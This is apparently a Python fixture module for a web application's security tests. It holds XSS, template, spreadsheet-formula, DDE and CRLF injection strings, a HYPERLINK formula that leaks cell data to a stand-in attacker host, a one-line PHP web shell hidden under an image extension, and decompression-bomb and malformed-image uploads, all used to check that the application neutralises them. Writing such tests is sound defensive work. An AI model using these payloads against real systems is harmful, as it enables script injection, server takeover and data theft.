"""Hostile text and files shared by the security tests.

Text payloads are placed in every user-writable text field; each output must show them as the
text they are (escaped, quoted, neutralised) and never let them become markup, script, a formula,
a header or a calendar property. File payloads go through every upload path.
"""

import io
import struct
import zlib

from PIL import Image

# -- Text ----------------------------------------------------------------------------------------------

XSS = {
    "script": "<script>alert(1)</script>",
    "attribute": '"><img src=x onerror=alert(1)>',
    "single_quote": "'><svg onload=alert(1)>",
    "svg": "<svg/onload=alert(1)>",
    "script_breakout": "</script><script>alert(1)</script>",
    "style_breakout": "</style><script>alert(1)</script>",
    "title_breakout": "</title><script>alert(1)</script>",
    "textarea_breakout": "</textarea><script>alert(1)</script>",
    "comment": "--><script>alert(1)</script><!--",
    "template": "{{7*7}} {% debug %} ${7*7} #{7*7}",
    "js_string": "'; alert(1); '",
    "javascript_text": "javascript:alert(1)",
    "entities": "&lt;script&gt;alert(1)&lt;/script&gt; &amp; &#60;b&#62;",
    "cdata": "]]><x>alert(1)</x><![CDATA[",
    "json": '","@type":"Person","x":"</script>',
    "js_separators": "Atelier\u2028alert(1)\u2029",
    "formula": '=HYPERLINK("https://evil.example/?leak="&A1,"Cliquez")',
    "dde": "=cmd|' /C calc'!A0",
    "at_formula": "@SUM(1+1)*cmd|' /C calc'!A0",
    "plus_formula": "+1+cmd|' /C calc'!A0",
    "minus_formula": "-1+cmd|' /C calc'!A0",
    "tab_formula": "\t=1+1",
    "crlf": "Atelier\r\nATTENDEE:mailto:evil@example.org\r\nBcc: evil@example.org",
    "lone_cr": "Atelier\rX-INJECTED:1",
    "lone_lf": "Atelier\nX-INJECTED:1",
}

# Web addresses that pass as http(s) but try to break out of an attribute, a script or a calendar line.
HOSTILE_WEB_URLS = {
    "attribute": 'https://evil.example/"><script>alert(1)</script>',
    "single_quote": "https://evil.example/'onmouseover='alert(1)",
    "script_breakout": "https://evil.example/?q=</script><script>alert(1)</script>",
    "crlf": "https://evil.example/\r\nATTENDEE:mailto:evil@example.org",
}

# Addresses no form accepts: the database must refuse them too (they would become live links).
NON_WEB_URLS = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(document.cookie)",
    " javascript:alert(1)",
    "\tjavascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "//evil.example/",
    "/relative/path",
    "ftp://example.org/fichier",
]

# Characters a spreadsheet reads as the start of a formula (OWASP, ASVS 1.2.10).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "\0")


def fit(payload: str, max_length: int | None) -> str:
    """The payload cut to a field's length: its start is what matters for most of them."""
    return payload if max_length is None else payload[:max_length]


# -- Files ---------------------------------------------------------------------------------------------


def image_bytes(fmt="JPEG", size=(800, 600), mode="RGB", **save_kwargs) -> bytes:
    buffer = io.BytesIO()
    colour = (200, 30, 90) if mode == "RGB" else (200, 30, 90, 128) if mode == "RGBA" else 128
    Image.new(mode, size, colour).save(buffer, format=fmt, **save_kwargs)
    return buffer.getvalue()


def png_bomb() -> bytes:
    """100 megapixels of one colour: a few hundred kilobytes that would take 300 MB decoded."""
    buffer = io.BytesIO()
    Image.new("1", (10_000, 10_000)).save(buffer, format="PNG", optimize=True)
    return buffer.getvalue()


def _png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)


def png_declaring(width: int, height: int) -> bytes:
    """A PNG header announcing huge dimensions, with almost no pixel data behind it."""
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + _png_chunk(b"IHDR", header)
        + _png_chunk(b"IDAT", zlib.compress(b"\0" * 64))
        + _png_chunk(b"IEND", b"")
    )


def jpeg_declaring(width: int, height: int) -> bytes:
    """A real little JPEG whose frame header claims other dimensions."""
    data = bytearray(image_bytes("JPEG", (16, 16)))
    frame = data.find(b"\xff\xc0")
    struct.pack_into(">HH", data, frame + 5, height, width)
    return bytes(data)


def jpeg_with_exif(orientation: int | None = None, *, gps=True, size=(1200, 800)) -> bytes:
    image = Image.new("RGB", size, (10, 120, 60))
    image.paste((250, 250, 0), (0, 0, size[0] // 4, size[1] // 4))  # a yellow corner, to see rotations
    exif = Image.Exif()
    exif[0x010F] = "AppareilSecret"  # Make
    if orientation is not None:
        exif[0x0112] = orientation
    if gps:
        exif[0x8825] = {1: "N", 2: (48.0, 6.0, 0.0)}
    buffer = io.BytesIO()
    image.save(buffer, format="JPEG", exif=exif)
    return buffer.getvalue()


def jpeg_with_corrupt_exif() -> bytes:
    # A TIFF header whose first directory runs past the end of the EXIF block.
    exif = b"Exif\x00\x00MM\x00\x2a\x00\x00\x00\x08" + b"\xff" * 40
    return image_bytes("JPEG", (300, 200), exif=exif)


def multi_picture_jpeg() -> bytes:
    """A JPEG with a second picture in its MPF index, as many phones write them (Ultra HDR gain maps,
    depth maps): Pillow reads it as « MPO »."""
    frames = [Image.new("RGB", (400, 300), (30, 60, 200)), Image.new("RGB", (200, 150), (0, 0, 0))]
    buffer = io.BytesIO()
    frames[0].save(buffer, format="MPO", save_all=True, append_images=frames[1:])
    return buffer.getvalue()


SCRIPT = b"<script>alert(document.cookie)</script>"

HOSTILE_UPLOADS = {
    # name: (content factory, file name, a piece of the French message when refused, or None when
    # the file is a real image to re-encode)
    "svg_with_script": (
        lambda: b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>',
        "logo.svg",
        "n’est pas une image lisible",
    ),
    "html_renamed_png": (
        lambda: b"<!doctype html><html>" + SCRIPT + b"</html>",
        "photo.png",
        "n’est pas une image lisible",
    ),
    "php_double_extension": (lambda: b"<?php system($_GET['c']); ?>", "x.php.jpg", "n’est pas une image lisible"),
    "gif_js_polyglot": (
        lambda: b"GIF89a/*\x01\x00\x01\x00\x00\x00\x00*/=alert(1)//;",
        "polyglotte.gif",
        "n’est pas une image lisible",
    ),
    "gif_with_script": (lambda: image_bytes("GIF", (50, 50)) + b"*/=alert(1);//", "anime.gif", "Le format GIF"),
    "truncated_jpeg": (lambda: image_bytes("JPEG", (1200, 900))[:3000], "coupee.jpg", "incomplet ou abîmé"),
    "decompression_bomb": (png_bomb, "bombe.png", "trop grande"),
    "huge_declared_png": (lambda: png_declaring(60_000, 60_000), "immense.png", "trop grande"),
    "huge_declared_jpeg": (lambda: jpeg_declaring(40_000, 40_000), "immense.jpg", "trop grande"),
    "too_many_pixels": (lambda: image_bytes("PNG", (6000, 4500), optimize=True), "27-megapixels.png", "trop grande"),
    "six_megabytes": (
        lambda: image_bytes("JPEG", (100, 100)) + b"\0" * (6 * 1024 * 1024),
        "lourde.jpg",
        "plus de 5 Mo",
    ),
    "zero_bytes": (lambda: b"", "vide.jpg", "vide"),
    "tiff": (lambda: image_bytes("TIFF", (50, 50)), "scan.tif", "Le format TIFF n’est pas accepté"),
    "bmp": (lambda: image_bytes("BMP", (50, 50)), "image.bmp", "Le format BMP n’est pas accepté"),
}

# Real images that carry something hostile or awkward: accepted, but only their pixels are kept.
REENCODED_UPLOADS = {
    "jpeg_with_html_appended": (lambda: image_bytes("JPEG", (300, 200)) + b"\n" + SCRIPT, "photo.jpg"),
    "png_with_html_appended": (lambda: image_bytes("PNG", (300, 200)) + SCRIPT, "photo.png"),
    "php_jpeg_double_extension": (lambda: image_bytes("JPEG", (300, 200)) + b"<?php phpinfo(); ?>", "x.php.jpg"),
    "exif_rotated": (lambda: jpeg_with_exif(orientation=6), "tournee.jpg"),
    "exif_corrupt": (jpeg_with_corrupt_exif, "exif-abime.jpg"),
    "multi_picture": (multi_picture_jpeg, "telephone.jpg"),
    "huge_declared_but_small_data": (lambda: jpeg_declaring(5000, 4900), "declaree.jpg"),
}
